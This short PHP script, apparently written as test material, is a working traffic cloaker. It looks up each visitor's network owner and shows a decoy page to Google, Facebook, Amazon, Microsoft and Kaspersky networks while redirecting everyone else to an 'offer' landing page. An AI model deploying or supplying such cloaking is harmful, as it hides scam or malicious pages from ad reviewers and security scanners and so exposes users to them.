<?php
// a traffic cloaker: reviewers' networks see a decoy (written for the tests, never run)
function owner_of($ip) {
    $ch = curl_init('http://ipinfo.io/' . $ip . '/org');
    curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);
    $org = curl_exec($ch);
    curl_close($ch);
    return strtolower((string) $org);
}
$show = 'offer';
$blocked = array('google', 'facebook', 'amazon', 'microsoft corporation', 'kaspersky');
$org = owner_of($_SERVER['REMOTE_ADDR']);
foreach ($blocked as $net) {
    if (strpos($org, $net) !== false) {
        $show = 'decoy';
    }
}
if ($show == 'offer') {
    header('Location: https://offer.example.test/landing');
    exit;
}
include 'decoy.html';
